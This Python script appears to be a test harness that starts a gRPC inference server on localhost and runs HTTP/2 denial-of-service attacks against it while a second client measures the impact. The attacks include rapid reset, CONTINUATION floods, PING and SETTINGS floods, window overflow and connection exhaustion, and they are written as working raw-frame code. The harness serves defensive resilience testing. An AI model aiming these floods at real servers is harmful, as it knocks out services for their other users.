#!/usr/bin/env python3
"""HTTP/2 abuse against a server that others are using: rapid reset, floods, broken frames, endless headers, many connections.

    abuse.py --server PROGRAM --model FILE [--seconds 5] [--require]

Starts the server on a port of its own for each attack; meanwhile another client asks ModelInfo every 20 ms. Prints a table: attack, its
rate, the other client's successes and failures and slowest call, peak memory, whether the server still answers afterwards.
--require: exit 1 unless in every row the other client lost at most 1 % of its calls, memory grew by at most 256 MiB and the server
answers within 5 s of the end (the bundled gRPC core must pass; the distribution's 1.51.1 does not).

Everything goes to 127.0.0.1 and ends by itself.
"""
import argparse
import os
import re
import resource
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

import grpc

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """HPACK literal without indexing, plain strings below 127 bytes of name."""
    return b"\x00" + bytes([len(name)]) + name + length(len(value)) + value


def length(n):
    if n < 127:
        return bytes([n])
    out, n = [127], n - 127
    while n >= 128:
        out.append(n % 128 + 128)
        n //= 128
    return bytes(out + [n])


def request_headers(path=b"/inferd.v1.Inference/ModelInfo", extra=b""):
    return (b"\x83\x86" + literal(b":path", path) + literal(b":authority", b"a") + literal(b"te", b"trailers") +
            literal(b"content-type", b"application/grpc") + extra)


class Raw:
    """A connection that speaks frames and reads (and drops) whatever comes."""

    def __init__(self, port, settings=b"", ack=True):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=2)
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0, settings) + (frame(SETTINGS, ACK, 0) if ack else b""))
        self.alive = True
        threading.Thread(target=self._drain, daemon=True).start()

    def _drain(self):
        try:
            self.sock.settimeout(None)
            while self.sock.recv(1 << 16):
                pass
        except OSError:
            pass
        self.alive = False

    def send(self, data):
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            self.alive = False
            return False

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def loop(port, seconds, make, connections=1):
    """Sends make(stream) for rising odd stream ids until time is up, reconnecting when cut off. Returns streams sent."""
    sent = [0] * connections
    end = time.monotonic() + seconds

    def run(k):
        while time.monotonic() < end:
            try:
                raw = Raw(port)
            except OSError:
                time.sleep(0.05)
                continue
            stream = 1
            while raw.alive and time.monotonic() < end and stream < 1 << 30:
                batch = b"".join(make(stream + 2 * i) for i in range(64))
                if not raw.send(batch):
                    break
                stream += 128
                sent[k] += 64
            raw.close()

    threads = [threading.Thread(target=run, args=(k,)) for k in range(connections)]
    [t.start() for t in threads]
    [t.join() for t in threads]
    return sum(sent)


def rapid_reset(port, seconds, connections=1):
    return loop(port, seconds, lambda s: frame(HEADERS, END_HEADERS, s, request_headers()) + frame(RST, 0, s, b"\0\0\0\x08"),
                connections)


def reset_after_data(port, seconds):
    return loop(port, seconds, lambda s: frame(HEADERS, END_HEADERS, s, request_headers()) + frame(DATA, 0, s, b"\0" * 5) +
                frame(RST, 0, s, b"\0\0\0\x08"))


def window_overflow(port, seconds):
    return loop(port, seconds, lambda s: frame(HEADERS, END_HEADERS, s, request_headers()) +
                frame(WINDOW_UPDATE, 0, s, b"\x7f\xff\xff\xff"))


def data_after_end(port, seconds):
    return loop(port, seconds, lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, request_headers()) +
                frame(DATA, 0, s, b"\0" * 5))


def continuation_flood(port, seconds, total=64 << 20, ack=False):
    raw = Raw(port, ack=ack)
    raw.send(frame(HEADERS, 0, 1, request_headers() + b"\x00\x01a" + b"\x7f\x80\x80\x80\x80\x01"))
    sent, end = 0, time.monotonic() + seconds
    chunk = frame(CONTINUATION, 0, 1, b"a" * 16384)
    while sent < total and time.monotonic() < end and raw.send(chunk):
        sent += 16384
    raw.close()
    return sent


def endless_value(port, seconds):
    return continuation_flood(port, seconds, 16 << 20, True)


def ping_flood(port, seconds):
    return loop(port, seconds, lambda s: frame(PING, 0, 0, b"12345678") * 8)


def settings_flood(port, seconds):
    return loop(port, seconds, lambda s: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)))


def many_connections(port, seconds, count=300):
    socks = []
    for _ in range(count):
        try:
            socks.append(socket.create_connection(("127.0.0.1", port), timeout=1))
        except OSError:
            pass
    time.sleep(min(seconds, 3))
    for s in socks:
        s.close()
    return len(socks)


def no_settings_ack(port, seconds, count=600):
    raw = Raw(port, ack=False)
    for i in range(count):
        raw.send(frame(HEADERS, END_HEADERS, 1 + 2 * i, request_headers()))
    time.sleep(min(seconds, 2))
    raw.close()
    return count


def bad_base64(port, seconds):
    return loop(port, min(seconds, 2), lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s,
                                                       request_headers(extra=literal(b"x-bin", b"\xff\xff$$"))))


def huge_header(port, seconds):
    return loop(port, min(seconds, 2), lambda s: frame(HEADERS, 0, s, request_headers()) +
                frame(CONTINUATION, END_HEADERS, s, literal(b"x", b"a" * 16000)))


def bad_preface(port, seconds):
    n, end = 0, time.monotonic() + min(seconds, 2)
    while time.monotonic() < end:
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=1)
            s.sendall(b"GET / HTTP/1.1\r\n\r\n" + os.urandom(200))
            s.close()
            n += 1
        except OSError:
            pass
    return n


ATTACKS = [
    ("HEADERS + RST, 1 connection", rapid_reset), ("HEADERS + RST, 4 connections", lambda p, s: rapid_reset(p, s, 4)),
    ("HEADERS + DATA + RST", reset_after_data), ("WINDOW_UPDATE overflow", window_overflow), ("DATA after END_STREAM", data_after_end),
    ("CONTINUATION, one value of 16 MiB", endless_value), ("CONTINUATION 64 MiB, no SETTINGS ACK", continuation_flood),
    ("PING flood", ping_flood), ("SETTINGS flood", settings_flood), ("300 connections, 128 descriptors", many_connections),
    ("600 streams, no SETTINGS ACK", no_settings_ack), ("bad base64 in -bin", bad_base64), ("16 KB header values", huge_header),
    ("bad preface", bad_preface),
]


class Server:
    def __init__(self, program, model, n_files):
        self.log = tempfile.TemporaryFile("w+")
        limit = (lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (n_files, n_files))) if n_files else None
        self.process = subprocess.Popen([program, "--model", model, "--listen", "127.0.0.1:0", "--admin", "off", "--backend", "cpu"],
                                        stdout=self.log, stderr=subprocess.STDOUT, preexec_fn=limit)
        end = time.monotonic() + 30
        while time.monotonic() < end:
            self.log.seek(0)
            m = re.search(r"event=ready .*?addr=\S+:(\d+)", self.log.read())
            if m:
                self.port = int(m.group(1))
                return
            if self.process.poll() is not None:
                break
            time.sleep(0.05)
        self.log.seek(0)
        sys.exit("the server did not start:\n" + self.log.read())

    def rss_mib(self):
        with open(f"/proc/{self.process.pid}/statm") as f:
            return int(f.read().split()[1]) * resource.getpagesize() / 2**20

    def stop(self):
        self.process.kill()
        self.process.wait()


class Bystander(threading.Thread):
    """Another client: one unary call every 20 ms."""

    def __init__(self, port):
        super().__init__(daemon=True)
        self.channel = grpc.insecure_channel(f"127.0.0.1:{port}")
        self.call = self.channel.unary_unary("/inferd.v1.Inference/ModelInfo")
        self.ok = self.bad = 0
        self.slowest = 0.0
        self.running = True

    def once(self, timeout=2.0):
        start = time.monotonic()
        try:
            self.call(b"", timeout=timeout)
            self.ok += 1
            return True
        except grpc.RpcError:
            self.bad += 1
            return False
        finally:
            self.slowest = max(self.slowest, time.monotonic() - start)

    def run(self):
        while self.running:
            self.once()
            time.sleep(0.02)


def run_attack(args, name, attack):
    server = Server(args.server, args.model, 128 if "descriptors" in name else 0)
    try:
        bystander = Bystander(server.port)
        bystander.once()
        base = peak = server.rss_mib()
        bystander.start()
        result = {}
        thread = threading.Thread(target=lambda: result.update(n=attack(server.port, args.seconds)), daemon=True)
        start = time.monotonic()
        thread.start()
        while thread.is_alive() and time.monotonic() - start < args.seconds + 10:
            peak = max(peak, server.rss_mib())
            time.sleep(0.1)
        bystander.running = False
        bystander.join(5)
        ok, bad, slowest = bystander.ok, bystander.bad, bystander.slowest
        end = time.monotonic() + 5
        alive = False
        while not alive and time.monotonic() < end and server.process.poll() is None:
            alive = Bystander(server.port).once(1.0)
        good = alive and bad <= 0.01 * (ok + bad) + 1 and peak - base <= 256
        print(f"| {name} | {result.get('n', 0)} | {ok} / {bad} | {slowest * 1000:.0f} ms | {base:.0f} -> {peak:.0f} MiB | "
              f"{'yes' if alive else 'NO'} | {'pass' if good else 'FAIL'} |", flush=True)
        return good
    finally:
        server.stop()


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--server", required=True)
    p.add_argument("--model", required=True)
    p.add_argument("--seconds", type=float, default=5)
    p.add_argument("--require", action="store_true")
    p.add_argument("--only", help="run the attacks whose name contains this")
    args = p.parse_args()
    print("| attack | sent | other client ok / bad | slowest | memory | answers after | |\n|---|---|---|---|---|---|---|", flush=True)
    good = [run_attack(args, n, a) for n, a in ATTACKS if not args.only or args.only in n]
    print(f"{sum(good)} passed, {len(good) - sum(good)} failed")
    return 1 if args.require and not all(good) else 0


if __name__ == "__main__":
    sys.exit(main())
